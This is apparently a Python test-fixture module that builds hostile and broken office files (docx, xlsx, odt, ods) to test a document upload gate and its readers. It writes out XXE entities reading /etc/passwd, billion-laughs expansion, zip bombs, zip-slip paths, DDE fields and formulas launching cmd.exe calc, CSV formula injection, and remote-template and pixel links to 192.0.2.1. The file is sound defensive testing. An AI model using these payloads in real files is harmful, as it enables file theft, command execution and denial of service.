"""Files that are broken, hostile or of another kind, made small by small builders.

``BY_RULE`` names them by the rule that refuses them; ``TO_READERS`` pass the gate, and are the
readers' to survive. ``HOSTILE`` has all of them by file name.
"""

import io
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.intake.packages import (
    EXCEL,
    ODF,
    OFFICE,
    WORD,
    WORD_MAIN,
    W,
    excel,
    excel_parts,
    odf_parts,
    ods,
    odt,
    packed,
    relation,
    relations,
    types,
    word,
    word_body,
    word_parts,
)

Builder = Callable[[], bytes]

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
END = struct.Struct("<4s4H2IH")
LOCAL = struct.Struct("<4s5H3I2H")
CENTRAL = struct.Struct("<4s6H3I5H2I")

DOCTYPE = '<!DOCTYPE w:document [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE w:document [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)
BAD_PICTURE = (
    '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata '
    'src="http://192.0.2.1/a.png"/></v:shape></w:pict></w:r></w:p>'
)
CLICK = "<script:event-listener script:language='ooo:script' xlink:href='vnd.sun.star.script:a'/>"


def run(words: str) -> str:
    """A run of text."""
    return f"<w:r><w:t>{words}</w:t></w:r>"


def instruction(words: str) -> str:
    """A run with a piece of a field's instruction."""
    return f'<w:r><w:instrText xml:space="preserve">{words}</w:instrText></w:r>'


def turn(kind: str) -> str:
    """A run with a boundary of a field: begin, separate or end."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*inside: str, result: str = "result") -> str:
    """A field with these pieces as instruction, and its result."""
    return turn("begin") + "".join(inside) + turn("separate") + run(result) + turn("end")


def word_field(*inside: str) -> bytes:
    """A Word file with one paragraph of these runs."""
    return word(f"<w:p>{''.join(inside)}</w:p>")


def external(kind: str, target: str) -> bytes:
    """A Word file with a relationship that leads out of it."""
    return word("<w:p/>", relation(kind, target, external=True))


def holding(name: str, kind: str, content: bytes = b"<a/>") -> bytes:
    """A Word file with one more part of a content type."""
    return packed(word_parts(more_types={f"/{name}": kind}) | {name: content})


def excel_holding(name: str, kind: str) -> bytes:
    """An Excel file with one more part of a content type."""
    return packed(excel_parts(more_types={f"/{name}": kind}) | {name: b"<a/>"})


def formula(words: str) -> bytes:
    """An Excel file with this formula."""
    return excel(f'<c r="A1"><f>{words}</f><v>1</v></c>')


def with_part(name: str, content: str | bytes) -> bytes:
    """A Word file with one part exchanged or added."""
    return packed(word_parts() | {name: content})


def without(name: str) -> bytes:
    """A Word file without one of its parts."""
    return packed({part: content for part, content in word_parts().items() if part != name})


def entry(change: Callable[[zipfile.ZipInfo], None], name: str = "word/more.xml") -> bytes:
    """A Word file with one more entry, about which something is changed."""
    stream = io.BytesIO(word())
    with zipfile.ZipFile(stream, "a") as file:
        info = zipfile.ZipInfo(name)
        change(info)
        file.writestr(info, "<a/>")
    return stream.getvalue()


def named(name: str) -> bytes:
    """A Word file with one more entry of this name."""
    return entry(lambda info: setattr(info, "filename", name))


def patched(data: bytes, field_of_directory: int, field_of_header: int, value: int) -> bytes:
    """A zip file whose last entry tells something else, in its header and in the directory."""
    changed = bytearray(data)
    for signature, form, index in (
        (b"PK\x01\x02", CENTRAL, field_of_directory),
        (b"PK\x03\x04", LOCAL, field_of_header),
    ):
        if index >= 0:
            place = changed.rindex(signature)
            told = list(form.unpack_from(changed, place))
            told[index] = value
            form.pack_into(changed, place, *told)
    return bytes(changed)


def hidden_between() -> bytes:
    """A Word file with bytes between its entries and their directory."""
    data = word()
    start = END.unpack_from(data, len(data) - END.size)[6]
    end = list(END.unpack_from(data, len(data) - END.size))
    end[6] += 6
    return data[:start] + b"hidden" + data[start : -END.size] + END.pack(*end)


def wide(data: bytes, hidden: bytes = b"") -> bytes:
    """A zip file that counts in eight bytes at its end, with something hidden there or not."""
    *_, parts, size, start, _ = END.unpack_from(data, len(data) - END.size)
    end = data[: -END.size] + hidden
    record = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, parts, parts, size, start)
    return end + record + struct.pack("<4sIQI", b"PK\6\7", 0, len(end), 1) + data[-END.size :]


def overlapping() -> bytes:
    """A Word file of which two entries are the same bytes."""
    data = bytearray(word())
    first, second = data.index(b"PK\x01\x02"), data.rindex(b"PK\x01\x02")
    offset = CENTRAL.unpack_from(data, first)[-1]
    told = list(CENTRAL.unpack_from(data, second))
    CENTRAL.pack_into(data, second, *told[:-1], offset)
    return bytes(data)


def two_streams() -> bytes:
    """A Word file with an entry that goes on after its compressed stream."""
    data = packed(word_parts(), stored=("word/_rels/document.xml.rels",))
    size = len(str(word_parts()["word/_rels/document.xml.rels"]))
    short = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = (short.compress(b"<a/>") + short.flush()).ljust(size, b"!")
    at = data.rindex(b"PK\x03\x04") + LOCAL.size + len("word/_rels/document.xml.rels")
    data = data[:at] + stream + data[at + size :]
    data = patched(data, 4, 3, zipfile.ZIP_DEFLATED)
    data = patched(data, 7, 6, zlib.crc32(b"<a/>"))
    return patched(data, 9, 8, 4)


def bomb(megabytes: int = 40) -> bytes:
    """A Word file with a part of many zeros."""
    return with_part("word/media/image1.png", bytes(megabytes << 20))


def twin(name: str) -> bytes:
    """A Word file with one more entry, of the name of its main part or of one like it."""
    stand_in = "word/documenT.xmL"
    return with_part(stand_in, b"<a/>").replace(stand_in.encode(), name.encode())


def many_parts(count: int = 1001) -> bytes:
    """A Word file with a great many pictures."""
    return packed(word_parts() | {f"word/media/{n}.png": b"" for n in range(count)})


def old_office(*streams: str) -> bytes:
    """A container of the form before 2007 that holds these streams."""
    return OLE + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in streams)


def strict() -> bytes:
    """A Word file of the form Strict Open XML."""
    main = relation("officeDocument", "word/document.xml", root="http://purl.oclc.org/ooxml/r")
    return packed(word_parts() | {"_rels/.rels": relations(main)})


def of_type(kind: str) -> bytes:
    """A Word file whose main part says to be of another content type."""
    return packed(word_parts(kind=kind))


NFC, NFD = (unicodedata.normalize(form, "word/media/\u00e9.png") for form in ("NFC", "NFD"))

PACKED: Mapping[str, Builder] = {
    "comment.docx": lambda: word()[:-2] + b"\x04\0note",
    "appended.docx": lambda: word() + b"more",
    "prepended.docx": lambda: b"PK\x03\x04 as a program" + word(),
    "hidden-between.docx": hidden_between,
    "overlapping.docx": overlapping,
    "far-away.docx": lambda: patched(word(), 16, -1, 0x7FFFFFFF),
    "twice.docx": lambda: twin("word/document.xml"),
    "case-twins.docx": lambda: twin("word/Document.XML"),
    "normal-twins.docx": lambda: packed(word_parts() | {NFC: b"", NFD: b""}),
    "absolute.docx": lambda: named("/etc/passwd"),
    "upwards.docx": lambda: named("word/../../escaped.xml"),
    "backslash.docx": lambda: named("word\\escaped.xml"),
    "drive.docx": lambda: named("C:/escaped.xml"),
    "link.docx": lambda: entry(lambda info: setattr(info, "external_attr", 0o120777 << 16)),
    "encrypted-part.docx": lambda: patched(word(), 3, 2, 1),
    "bzip2.docx": lambda: entry(lambda info: setattr(info, "compress_type", zipfile.ZIP_BZIP2)),
    "lzma.docx": lambda: entry(lambda info: setattr(info, "compress_type", zipfile.ZIP_LZMA)),
    "many-parts.docx": many_parts,
    "bomb.docx": bomb,
    "bomb.xlsx": lambda: packed(excel_parts() | {"xl/media/image1.png": bytes(30 << 20)}),
    "bomb-main.docx": lambda: word(f"<w:p>{run('A' * (9 << 20))}</w:p>"),
    "doctype.docx": lambda: with_part("word/document.xml", DOCTYPE + word_body("&leak;")),
    "doctype-utf16.docx": lambda: with_part(
        "word/document.xml", (DOCTYPE + word_body("")).encode("utf-16")
    ),
    "doctype-utf32.docx": lambda: with_part(
        "word/document.xml", (DOCTYPE + word_body("")).encode("utf-32")
    ),
    "doctype-utf7.docx": lambda: with_part(
        "word/document.xml",
        ('<?xml version="1.0" encoding="utf-7"?>' + DOCTYPE + word_body("")).encode("utf-7"),
    ),
    "doctype-in-relations.docx": lambda: with_part(
        "word/_rels/document.xml.rels", DOCTYPE + relations()
    ),
    "doctype-in-types.docx": lambda: with_part(
        "[Content_Types].xml", DOCTYPE + types("word/document.xml", f"{WORD}.document.main+xml")
    ),
    "doctype.xlsx": lambda: packed(
        excel_parts() | {"xl/worksheets/sheet1.xml": "<!DOCTYPE a><a/>"}
    ),
    "doctype.odt": lambda: packed(odf_parts() | {"content.xml": "<!DOCTYPE a><a/>"}),
    "laughs.docx": lambda: with_part("word/document.xml", LAUGHS + word_body("&a9;")),
    "quadratic.docx": lambda: with_part(
        "word/document.xml",
        f"<!DOCTYPE a [<!ENTITY q '{'q' * 50_000}'>]><a>{'&q;' * 5_000}</a>",
    ),
    "doctype-in-drawing.docx": lambda: holding(
        "word/media/a.svg", "image/svg+xml", b"<!DOCTYPE svg><svg/>"
    ),
    "doctype-in-drawing.odt": lambda: packed(
        odf_parts() | {"Pictures/a.svg": "<!DOCTYPE svg><svg/>"}
    ),
    "mimetype-last.odt": lambda: packed(dict(reversed(odf_parts().items()))),
    "mimetype-deflated.odt": lambda: packed(odf_parts(), stored=()),
}

DAMAGED: Mapping[str, Builder] = {
    "truncated.docx": lambda: word()[:-200],
    "half.xlsx": lambda: excel()[: len(excel()) // 2],
    "header-only.docx": lambda: b"PK\x03\x04",
    "end-only.docx": lambda: END.pack(b"PK\x05\x06", 0, 0, 1, 1, 46, 0, 0),
    "hidden-before-wide-end.docx": lambda: wide(word(), hidden=b"hidden"),
    "no-end.odt": lambda: odt()[: -END.size],
    "says-less.docx": lambda: patched(word(), 9, 8, 10),
    "says-more.docx": lambda: patched(word(), 9, 8, 1 << 30),
    "checksum.docx": lambda: patched(word(), 7, 6, 1),
    "another-name.docx": lambda: word().replace(b"word/document.xml", b"word/documexx.xml", 1),
    "another-method.docx": lambda: patched(word(), -1, 3, 0),
    "no-stream.docx": lambda: patched(packed(word_parts(), stored=tuple(word_parts())), 4, 3, 8),
    "two-streams.docx": two_streams,
    "no-types.docx": lambda: without("[Content_Types].xml"),
    "no-relations.docx": lambda: without("_rels/.rels"),
    "no-main.docx": lambda: without("word/document.xml"),
    "no-manifest.odt": lambda: packed(
        {name: part for name, part in odf_parts().items() if "manifest" not in name}
    ),
    "two-mains.docx": lambda: with_part(
        "_rels/.rels", relations(*(relation("officeDocument", f"word/{n}.xml") for n in "ab"))
    ),
    "main-of-another-type.docx": lambda: with_part(
        "_rels/.rels", relations(relation("officeDocument", "word/document.xml", root="urn:a"))
    ),
    "relations-of-another-kind.docx": lambda: with_part(
        "_rels/.rels",
        relations(relation("officeDocument", "word/document.xml")).replace("2006", "2007", 1),
    ),
    "two-types.docx": lambda: with_part(
        "[Content_Types].xml",
        types("word/document.xml", WORD_MAIN, {"/word/Document.xml": "application/xml"}),
    ),
    "no-namespace.docx": lambda: with_part(
        "word/document.xml", "<w:document><w:body/></w:document>"
    ),
    "same-attribute.docx": lambda: word(f'<w:p xmlns:x="{W}" w:a="1" x:a="2"/>'),
    "broken-main.docx": lambda: with_part("word/document.xml", word_body("<w:p>")),
    "broken-types.docx": lambda: with_part("[Content_Types].xml", "<Types"),
    "broken-sheet.xlsx": lambda: packed(excel_parts() | {"xl/worksheets/sheet1.xml": "<a>"}),
    "binary-main.docx": lambda: with_part("word/document.xml", bytes(range(256))),
    "empty-main.docx": lambda: with_part("word/document.xml", b""),
    "nul-main.docx": lambda: with_part("word/document.xml", word_body("<w:p>\0</w:p>")),
    "deep.docx": lambda: word("<w:p>" * 10_000),
    "ebcdic.docx": lambda: with_part(
        "word/document.xml", ('<?xml version="1.0"?>' + DOCTYPE + "<a/>").encode("cp037")
    ),
}

ACTIVE: Mapping[str, Builder] = {
    "macro-form.docx": lambda: of_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "macro-form.dotm": lambda: of_type(
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
    ),
    "macro-form.xlsm": lambda: packed(
        excel_parts(kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    ),
    "macro-form.xltm": lambda: packed(
        excel_parts(kind="application/vnd.ms-excel.template.macroEnabled.main+xml")
    ),
    "macros.docx": lambda: holding("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
    "macros-as-picture.docx": lambda: with_part("word/vbaProject.png", b""),
    "macro-sheet.xlsx": lambda: excel_holding(
        "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"
    ),
    "control.docx": lambda: holding(
        "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"
    ),
    "object.docx": lambda: holding(
        "word/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
    ),
    "object-as-picture.docx": lambda: with_part("word/embeddings/object.png", b""),
    "object-renamed.docx": lambda: holding(
        "word/media/object.bin", "application/vnd.openxmlformats-officedocument.oleObject"
    ),
    "linked-object.docx": lambda: external("oleObject", "file:///C:/table.xlsx"),
    "workbook-within.docx": lambda: holding("word/embeddings/book.xlsx", f"{EXCEL}.sheet"),
    "inserted-page.docx": lambda: packed(
        word_parts(
            more_types={"/word/page.html": "text/html"},
            links=(relation("aFChunk", "page.html"),),
        )
        | {"word/page.html": "<script>alert(1)</script>"}
    ),
    "buttons.docx": lambda: packed(
        word_parts(more_types={"/customUI/customUI.xml": "application/xml"})
        | {"customUI/customUI.xml": "<a/>"}
    ),
    "add-in.docx": lambda: holding(
        "word/webextensions/one.xml", "application/vnd.ms-office.webextension+xml"
    ),
    "field-simple.docx": lambda: word(
        "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\cmd.exe \"/k calc\" '/></w:p>"
    ),
    "field-split.docx": lambda: word_field(
        field(instruction(' "D'), instruction("D"), instruction("EAUTO"), instruction(' cmd"'))
    ),
    "field-deleted.docx": lambda: word_field(
        turn("begin")
        + "<w:del><w:r><w:delInstrText> LINK Excel.Sheet.8 a.xls</w:delInstrText></w:r></w:del>"
        + turn("end")
    ),
    "field-computed.docx": lambda: word_field(
        field(turn("begin"), instruction("QUOTE 68 68 69"), turn("end"), instruction(" cmd calc"))
    ),
    "field-from-result.docx": lambda: word_field(
        field(field(instruction("QUOTE x"), result="DDE"), instruction(" cmd calc"))
    ),
    "field-within.docx": lambda: word_field(
        field(instruction('IF 1 = 1 "'), field(instruction("INCLUDETEXT c:\\\\secret.txt")))
    ),
    "field-picture.docx": lambda: word_field(
        field(instruction('INCLUDEPICTURE "http://192.0.2.1/a.png" \\d'))
    ),
    "field-after-spaces.docx": lambda: word_field(
        field(instruction(" " * 5_000), instruction("DDEAUTO cmd"))
    ),
    "field-broken-up.docx": lambda: word_field(
        field("<w:r><w:instrText>DDE<w:proofErr/>AUTO cmd</w:instrText></w:r>")
    ),
    "field-in-untyped-part.docx": lambda: holding(
        "word/header1.xml",
        "application/xml",
        word_body(f"<w:p>{field(instruction('DDE a b'))}</w:p>").encode(),
    ),
    "field-endless.docx": lambda: word_field(turn("begin"), instruction("IMPORT a.wmf")),
    "field-in-header.docx": lambda: holding(
        "word/header1.xml",
        f"{WORD}.header+xml",
        word_body(f"<w:p>{field(instruction('dde a b'))}</w:p>").encode(),
    ),
    "dde.xlsx": lambda: formula("cmd|'/c calc'!A0"),
    "web-service.xlsx": lambda: formula('_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A2)'),
    "another-book.xlsx": lambda: formula("SUM([1]Sheet1!A1:A9)"),
    "dde-behind-a-quote.xlsx": lambda: formula("'a&quot;'!A1+cmd|'/c calc'!A0+'&quot;'!A1"),
    "another-book-quoted.xlsx": lambda: formula("'[2]My sheet'!$A$1"),
    "dde-in-name.xlsx": lambda: packed(
        excel_parts(
            names="<definedNames><definedName name='a'>MSEXCEL|'\\..\\cmd'!x</definedName>"
            "</definedNames>"
        )
    ),
    "macros.odt": lambda: packed(odf_parts() | {"Basic/Standard/Module1.xml": "<a/>"}),
    "scripts.odt": lambda: packed(odf_parts() | {"Scripts/python/a.py": "import os"}),
    "click.odt": lambda: odt(
        f"<text:p><office:event-listeners>{CLICK}</office:event-listeners></text:p>"
    ),
    "object.odt": lambda: odt("<draw:object-ole xlink:href='./Object 1'/>"),
    "text-within.odt": lambda: packed(
        odf_parts(entries={"Object 1/": "application/vnd.oasis.opendocument.text"})
        | {"Object 1/content.xml": "<a/>"}
    ),
    "dde-formula.ods": lambda: ods(
        '<table:table><table:table-row><table:table-cell table:formula=\'of:=DDE("soffice";"a")\'/>'
        "</table:table-row></table:table>"
    ),
    "dde-name.ods": lambda: ods(
        "<table:named-expression table:expression='of:=DDE(&quot;soffice&quot;)'/>"
    ),
    "another-file.ods": lambda: ods(
        "<table:table-cell table:formula=\"of:=['../other.ods'#$Sheet1.A1]\"/>"
    ),
}

EXTERNAL: Mapping[str, Builder] = {
    "template-web.docx": lambda: external("attachedTemplate", "http://192.0.2.1/evil.dotm"),
    "template-file.docx": lambda: external("attachedTemplate", "file:///C:/Users/a/letter.dotx"),
    "picture-web.docx": lambda: external("image", "http://192.0.2.1/pixel.png"),
    "picture-file.docx": lambda: external("image", "file:///etc/passwd"),
    "picture-called-internal.docx": lambda: word(
        "<w:p/>", relation("image", "http://192.0.2.1/pixel.png")
    ),
    "link-in-field.docx": lambda: word_field(field(instruction('HYPERLINK "file:///C:/a.exe"'))),
    "picture-drawn.docx": lambda: word(BAD_PICTURE),
    "link-file.docx": lambda: external("hyperlink", "file:///C:/Users/a/report.docx"),
    "link-script.docx": lambda: external("hyperlink", "javascript:alert(1)"),
    "link-share.docx": lambda: external("hyperlink", "\\\\192.0.2.1\\share\\a.docx"),
    "link-relative.docx": lambda: external("hyperlink", "report.docx"),
    "subdocument.docx": lambda: external("subDocument", "part2.docx"),
    "frame.docx": lambda: external("frame", "http://192.0.2.1/frame.htm"),
    "mail-merge.docx": lambda: external("mailMergeSource", "file:///C:/addresses.xlsx"),
    "sound.docx": lambda: external("audio", "http://192.0.2.1/a.wav"),
    "mode-in-capitals.docx": lambda: packed(
        word_parts(
            links=(
                f'<Relationship Id="r1" Type="{OFFICE}/image" Target="http://192.0.2.1/" '
                'TargetMode="EXTERNAL"/>',
            )
        )
    ),
    "other-workbook.xlsx": lambda: excel_holding(
        "xl/externalLinks/externalLink1.xml", f"{EXCEL}.externalLink+xml"
    ),
    "connections.xlsx": lambda: excel_holding("xl/connections.xml", f"{EXCEL}.connections+xml"),
    "query.xlsx": lambda: excel_holding("xl/queryTables/q1.xml", f"{EXCEL}.queryTable+xml"),
    "picture.odt": lambda: odt("<draw:image xlink:href='http://192.0.2.1/a.png'/>"),
    "picture-upwards.odt": lambda: odt("<draw:image xlink:href='../../etc/passwd'/>"),
    "picture-through-folder.odt": lambda: odt(
        "<draw:image xlink:href='Pictures/../../etc/passwd'/>"
    ),
    "picture-in-disguise.odt": lambda: odt("<draw:image xlink:href='a/%2e%2e/%2e%2e/passwd'/>"),
    "link.odt": lambda: odt("<text:p><text:a xlink:href='../other.odt'>a</text:a></text:p>"),
    "section.odt": lambda: odt(
        "<text:section><text:section-source xlink:href='http://192.0.2.1/a.odt'/></text:section>"
    ),
    "dde.odt": lambda: odt(
        "<text:dde-connection-decls><text:dde-connection-decl/></text:dde-connection-decls>"
    ),
    "sheet-source.ods": lambda: ods(
        "<table:table><table:table-source xlink:href='http://192.0.2.1/a.ods'/></table:table>"
    ),
}

PARTS: Mapping[str, Builder] = {
    "unknown-part.docx": lambda: holding("word/secret.bin", "application/x-secret"),
    "untyped-part.docx": lambda: with_part("hidden.dat", b"words that nobody sees"),
    "unknown-relation.docx": lambda: word("<w:p/>", relation("secret", "media/a.png")),
    "unknown-part.odt": lambda: packed(odf_parts() | {"hidden.xml": "<a/>"}),
    "both.odt": lambda: packed(odf_parts() | word_parts()),
}

PROTECTED: Mapping[str, Builder] = {
    "password.docx": lambda: old_office("Root Entry", "EncryptionInfo", "EncryptedPackage"),
    "password-capitals.xlsx": lambda: old_office("ROOT ENTRY", "ENCRYPTEDPACKAGE"),
    "password-large.docx": lambda: OLE + bytes(2 << 20) + old_office("EncryptedPackage"),
    "password-whole.odt": lambda: packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": f'<m:manifest xmlns:m="{ODF}:manifest:1.0">'
            "<m:encryption-data/></m:manifest>",
            "encrypted-package": b"secret",
        }
    ),
    "password.odt": lambda: packed(
        odf_parts(encrypted=f'<e:encryption-data xmlns:e="{ODF}:manifest:1.0"/>')
    ),
}

OTHERS: Mapping[str, Builder] = {
    "report.pdf": lambda: b"%PDF-1.7\n",
    "pdf-as-word.docx": lambda: b"%PDF-1.7\n",
    "pdf-as-yaml.yaml": lambda: b"%PDF-1.7\n",
    "scan.png": lambda: b"\x89PNG\r\n\x1a\n",
    "photo.jpg": lambda: b"\xff\xd8\xff\xe0",
    "fax.tiff": lambda: b"II*\0",
    "drawing.gif": lambda: b"GIF89a",
    "phone.heic": lambda: b"\0\0\0\x18ftypheic",
    "web.webp": lambda: b"RIFF\0\0\0\0WEBP",
    "film.mov": lambda: b"\0\0\0\x14ftypqt  ",
    "memo.m4a": lambda: b"\0\0\0\x1cftypM4A ",
    "memo.mp3": lambda: b"ID3\x04",
    "memo.wav": lambda: b"RIFF\0\0\0\0WAVE",
    "shortcut.lnk": lambda: b"L\0\0\0\x01\x14\x02\0",
    "shortcut.url": lambda: b"[InternetShortcut]\r\nURL=https://example.org/report.docx\r\n",
    "text.rtf": lambda: b"{\\rtf1 text}",
    "rtf-as-word.docx": lambda: b"{\\rtf1 text}",
    "page.html": lambda: b"<p>text",
    "page-as-word.docx": lambda: b"<!DOCTYPE html><html>",
    "word-2003.xml": lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>',
    "excel-2003.xls": lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><a/>',
    "exported.doc": lambda: b"Subject: Exported\r\nMIME-Version: 1.0\r\n",
    "notes.txt": lambda: b"notes",
    "files.zip": lambda: packed({"a.docx": word(), "b.docx": word()}),
    "zip-as-word.docx": lambda: packed({"a.docx": word()}),
    "files.7z": lambda: b"7z\xbc\xaf\x27\x1c",
    "files.rar": lambda: b"Rar!\x1a\x07\x01",
    "files.tar.gz": lambda: b"\x1f\x8b\x08",
    "document.gdoc": lambda: b'{"url": "", "doc_id": "x"}',
    "shortcut.json": lambda: b'{"doc_id": "x", "email": ""}',
    "message.eml": lambda: b"Received: from a\r\n",
    "message.msg": lambda: old_office("__properties_version1.0"),
    "old.doc": lambda: old_office("Root Entry", "WordDocument", "Workbook"),
    "old.xls": lambda: old_office("Root Entry", "Workbook"),
    "older.xls": lambda: old_office("Book"),
    "old.ppt": lambda: old_office("PowerPoint Document"),
    "ole.docx": lambda: OLE,
    "program.exe": lambda: b"MZ\x90\0",
    "program.docx": lambda: b"\x7fELF",
    "flat.fodt": lambda: b"<office:document/>",
    "pages.docx": lambda: packed({"Index/Document.iwa": b"", "Metadata/a.plist": b""}),
    "old.pages": lambda: packed({"index.xml": "<a/>", "buildVersionHistory.plist": b""}),
    "strict.docx": strict,
    "template.docx": lambda: of_type(f"{WORD}.template.main+xml"),
    "template.xlsx": lambda: packed(excel_parts(kind=f"{EXCEL}.template.main+xml")),
    "binary.xlsb": lambda: packed(
        excel_parts(kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main")
    ),
    "slides.docx": lambda: of_type(
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    ),
    "template.ott": lambda: packed(odf_parts(kind="text-template")),
    "slides.odp": lambda: packed(odf_parts(kind="presentation")),
    "book.epub": lambda: packed({"mimetype": "application/epub+zip"}),
    "noise.docx": lambda: bytes(range(256)) * 4,
    "noise.md": lambda: bytes(range(256)) * 4,
    "noise.csv": lambda: b"a,b\n\0\0\0\n",
    "no-ending": lambda: b"text",
    "report\u202excod.exe": lambda: b"text",
}

EMPTY: Mapping[str, Builder] = {
    "empty.docx": lambda: b"",
    "blank.xlsx": lambda: b" \r\n",
    "empty.md": lambda: b"",
}

LARGE: Mapping[str, Builder] = {
    "large.docx": lambda: b"PK\x03\x04" + bytes(33 << 20),
    "large.md": lambda: b"text " * 250_000,
    "large.csv": lambda: b"a,b\n" * 300_000,
}

BY_RULE: Mapping[str, Mapping[str, Builder]] = {
    "file-packed": PACKED,
    "file-damaged": DAMAGED,
    "file-active": ACTIVE,
    "file-external": EXTERNAL,
    "file-part": PARTS,
    "file-protected": PROTECTED,
    "file-format": OTHERS,
    "file-empty": EMPTY,
    "file-too-large": LARGE,
}
"""What each rule of the gate refuses, by file name."""

TO_READERS: Mapping[str, Builder] = {
    "brackets.md": lambda: b"[" * 2_000,
    "quotes.md": lambda: b">" * 10_000,
    "front-matter.md": lambda: b"---\na: &a [x]\nb: [*a, *a]\n---\n# Standards\n",
    "raw.md": lambda: b"```{=openxml}\n<w:p/>\n```\n",
    "long-line.md": lambda: b"# Standards\n\n" + b"a" * 1_000_000,
    "latin.md": lambda: b"# R\xe9sum\xe9\n",
    "utf16.csv": lambda: "section,text\nstandards,a\n".encode("utf-16"),
    "quotes.csv": lambda: b'"' * 1_000_001,
    "columns.csv": lambda: b"," * 1_000_000,
    "command.csv": lambda: b"section,text\nstandards,=cmd|'/c calc'!A0\n",
    "no-body.docx": lambda: word(""),
    "tables.docx": lambda: word(
        "<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60
    ),
    "paragraphs.docx": lambda: word(
        "".join(f"<w:p>{run(str(n * n))}</w:p>" for n in range(20_000))
    ),
    "far-cell.xlsx": lambda: excel('<c r="ZZZZZZ999999999"><v>1</v></c>'),
    "last-cell.xlsx": lambda: excel('<c r="XFD1"><v>1</v></c>'),
    "no-sheet.xlsx": lambda: packed(
        {name: part for name, part in excel_parts().items() if "sheet1" not in name}
    ),
    "text-as-number.xlsx": lambda: excel('<c r="A1" t="n"><v>many</v></c>'),
    "missing-string.xlsx": lambda: excel('<c r="A1" t="s"><v>999999</v></c>'),
    "repeated.ods": lambda: ods(
        "<table:table><table:table-row table:number-rows-repeated='1048576'><table:table-cell "
        "table:number-columns-repeated='16384'><text:p>a</text:p></table:table-cell>"
        "</table:table-row></table:table>"
    ),
    "no-text.odt": lambda: odt(""),
    "laughs.yaml": lambda: b"a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n",
    "nested.json": lambda: b"[" * 100_000,
}
"""What the gate lets pass, for the readers to survive."""

HOSTILE: Mapping[str, Builder] = {
    name: build for some in (*BY_RULE.values(), TO_READERS) for name, build in some.items()
}
"""All of them by file name."""
